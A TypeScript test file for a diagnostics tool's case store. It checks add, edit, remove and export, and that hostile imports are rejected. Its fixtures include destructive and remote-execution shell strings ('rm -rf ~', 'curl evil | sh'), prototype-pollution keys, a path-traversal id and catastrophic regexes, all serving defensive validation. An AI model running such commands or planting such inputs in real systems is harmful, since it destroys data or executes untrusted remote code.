import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, existsSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { unsafePatternReason } from '../../../../src/main/engine/doctor/cases/safe-regex.js';
import { CaseError, CaseStore, MAX_IMPORT_BYTES } from '../../../../src/main/engine/doctor/cases/case-store.js';

const base = {
  id: 'my-case',
  title: { en: 'Mine', zh: '我的' },
  description: { en: 'A user case', zh: '用户案例' },
  severity: 'medium',
  match: { patterns: ['widget exploded'], keywords: ['widget'] },
  fix: [{ type: 'restart-gateway' }],
};

function store(approved: Record<string, string[]> = {}): { s: CaseStore; dir: string } {
  const dir = mkdtempSync(join(tmpdir(), 'clawdoc-cases-'));
  return { s: new CaseStore(dir, () => approved), dir };
}

test('add, show, edit, remove, export', () => {
  const { s } = store();
  const n = s.all().length;
  s.add(base);
  assert.equal(s.all().length, n + 1);
  assert.throws(() => s.add(base), /already exists/);
  const edited = s.edit('my-case', { severity: 'high', match: { keywords: ['widget', 'boom'] } });
  assert.equal(edited.severity, 'high');
  assert.deepEqual(edited.match.patterns, ['widget exploded'], 'match merged one level');
  assert.throws(() => s.edit('my-case', { severity: 'apocalyptic' }), CaseError);
  const exported = JSON.parse(s.exportText({ userOnly: true })) as { cases: { id: string }[] };
  assert.deepEqual(exported.cases.map((c) => c.id), ['my-case']);
  s.remove('my-case');
  assert.equal(s.get('my-case'), undefined);
  s.remove('heap-oom'); // a built-in can be removed (hidden), and comes back by import
  assert.equal(s.get('heap-oom'), undefined);
});

test('hostile or malformed imports are rejected whole, with the reason, and nothing changes', () => {
  const { s, dir } = store({ 'ok-shell': ['systemctl --user restart openclaw-gateway'] });
  s.add(base);
  const before = readFileSync(join(dir, 'cases.json'), 'utf8');
  const good2 = { ...base, id: 'second' };
  const bad: [string, string, RegExp][] = [
    ['bad regex', JSON.stringify([good2, { ...base, id: 'x1', match: { patterns: ['([a-z'] } }]), /invalid regex/],
    ['catastrophic regex', JSON.stringify([good2, { ...base, id: 'x2', match: { patterns: ['(a+)+$'] } }]), /catastrophic/],
    ['catastrophic alternation', JSON.stringify([good2, { ...base, id: 'x3', match: { patterns: ['(a|aa)*b'] } }]), /catastrophic/],
    ['shell not approved', JSON.stringify([good2, { ...base, id: 'x4', fix: [{ type: 'shell', command: 'rm -rf ~' }] }]), /not approved/],
    ['unknown action type', JSON.stringify([good2, { ...base, id: 'x5', fix: [{ type: 'format-disk' }] }]), /fix\.0/],
    ['prototype pollution', `[${JSON.stringify(good2)}, {"__proto__": {"polluted": true}, "id": "x6"}]`, /forbidden key "__proto__"/],
    ['constructor key', JSON.stringify([{ ...good2, match: { constructor: { prototype: {} } } }]), /forbidden key/],
    ['unknown field', JSON.stringify([{ ...good2, exec: 'curl evil | sh' }]), /unknown key "exec"/],
    ['not json', '{cases: [', /not valid JSON/],
    ['duplicate ids', JSON.stringify([good2, good2]), /duplicate/],
    ['empty-matching pattern', JSON.stringify([{ ...good2, match: { patterns: ['.*'] } }]), /empty line/],
    ['backreference', JSON.stringify([{ ...good2, match: { patterns: ['(a)\\1'] } }]), /backreference/],
    ['bad id', JSON.stringify([{ ...good2, id: '../../etc/passwd' }]), /id/],
  ];
  for (const [what, text, reason] of bad) {
    assert.throws(() => s.importText(text), (err: Error) => err instanceof CaseError && reason.test(err.message), what);
    assert.equal(readFileSync(join(dir, 'cases.json'), 'utf8'), before, `${what}: nothing changed`);
  }
  assert.equal(({} as Record<string, unknown>).polluted, undefined);
  const huge = join(dir, 'huge.json');
  writeFileSync(huge, `[${' '.repeat(MAX_IMPORT_BYTES + 10)}]`);
  assert.throws(() => s.importFile(huge), /larger than/);
  // an approved shell command for its case is accepted
  const ids = s.importText(JSON.stringify({ version: 1, cases: [good2, { ...base, id: 'ok-shell', fix: [{ type: 'shell', command: 'systemctl --user restart openclaw-gateway' }] }] }));
  assert.deepEqual(ids, ['second', 'ok-shell']);
  assert.ok(existsSync(join(dir, 'cases.json')));
});

test('safe-regex accepts ordinary patterns and refuses the dangerous shapes', () => {
  for (const ok of ['EADDRINUSE', 'Port \\d+ is already in use', 'gateway\\.mode[^\\n]{0,30}remote', '(?:foo|bar) baz', '\\b429\\b[^\\n]{0,40}(?:too many|rate)', 'a{2,3}b', '(ab)?c']) {
    assert.equal(unsafePatternReason(ok), undefined, ok);
  }
  for (const bad of ['(a+)+', '(a*)*b', '(.*a){3,}', '(a|a)+', '((ab)+)+', '(\\w+\\s?)*$', 'x'.repeat(401)]) {
    assert.ok(unsafePatternReason(bad), bad);
  }
});

test('live counts: attempts and verified successes', () => {
  const { s } = store();
  s.recordOutcome('heap-oom', true);
  s.recordOutcome('heap-oom', false);
  assert.deepEqual({ ...s.statsFor('heap-oom'), lastAt: undefined }, { attempts: 2, successes: 1, lastAt: undefined });
});
